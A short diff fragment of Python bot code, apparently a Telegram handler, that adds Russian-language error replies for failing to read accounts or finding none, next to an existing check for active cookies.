+        await msg.reply(f"❌ Ошибка при чтении аккаунтов: {e}")
+        return
+
+    if not accounts_seen:
+        await msg.reply("⚠️ Аккаунтов не найдено.")
+        return
 
     if not cookies:
         await msg.reply("⚠️ Активных кук не нашёл.")